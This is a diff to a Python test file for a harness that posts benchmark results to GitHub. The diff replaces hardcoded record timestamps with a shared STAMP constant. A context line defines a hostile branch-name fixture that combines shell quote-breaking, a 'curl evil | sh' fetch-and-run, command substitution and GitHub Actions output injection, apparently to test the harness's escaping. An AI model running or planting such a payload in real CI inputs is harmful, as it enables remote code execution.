@@ -17,10 +17,11 @@ from harness.nightly.github import Api
 from harness.stacks.locks import get_stack
 from harness.suite import inside
 from tests import site_results as make
+from tests.site_results import STAMP
 
 HEAD = "a" * 40
 BRANCH = 'x"; curl evil | sh #$(id)`id`\n::set-output name=a::b'
-RECORD = "records/pull-request/v6.4.0/ppca-500-pymc-c.20261127T044050.json"
+RECORD = f"records/pull-request/v6.4.0/ppca-500-pymc-c.{STAMP}.json"
 
 
 @pytest.fixture(scope="module")
@@ -297,7 +298,7 @@ def test_a_comment_is_never_longer_than_github_takes(tmp_path, results):
     files = dict(results)
     for i in range(60):
         trials = make.failed(get_stack("v6.4.0"), "ppca", 500, f"b{i}", "x`" * 900, protocol)
-        files[f"records/pull-request/v6.4.0/ppca-500-b{i}.20261127T044050.json"] = json.dumps(trials).encode()
+        files[f"records/pull-request/v6.4.0/ppca-500-b{i}.{STAMP}.json"] = json.dumps(trials).encode()
     text = said(tmp_path, files)
     assert len(text) < 65_000
     assert text.endswith(f"which the log has.\n\n{report._MARK}\n")
